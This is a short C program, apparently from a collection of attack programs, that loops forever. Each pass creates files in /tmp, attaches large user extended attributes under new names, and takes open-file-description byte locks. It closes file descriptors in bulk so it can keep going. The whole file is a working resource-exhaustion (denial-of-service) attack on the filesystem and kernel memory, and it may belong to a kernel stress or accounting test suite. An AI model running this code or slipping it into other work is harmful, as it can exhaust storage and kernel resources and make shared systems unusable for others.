/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Attributes of files, and locks on their bytes, without end. */
#include "attack.h"

#include <sys/xattr.h>

int main(void)
{
    static char value[65536];
    char name[64];
    for (unsigned i = 0;; i++) {
        snprintf(name, sizeof name, "/tmp/%u", i / 100);
        int fd = open(name, O_CREAT | O_RDWR, 0600);
        snprintf(name, sizeof name, "user.%u", i);
        fsetxattr(fd, name, value, sizeof value, 0);
        struct flock lock = {.l_type = F_WRLCK, .l_start = (off_t)i * 2, .l_len = 1};
        fcntl(fd, 37 /* F_OFD_SETLK */, &lock);
        if (fd > 900)
            for (int j = 3; j < 900; j++)
                close(j);
    }
}
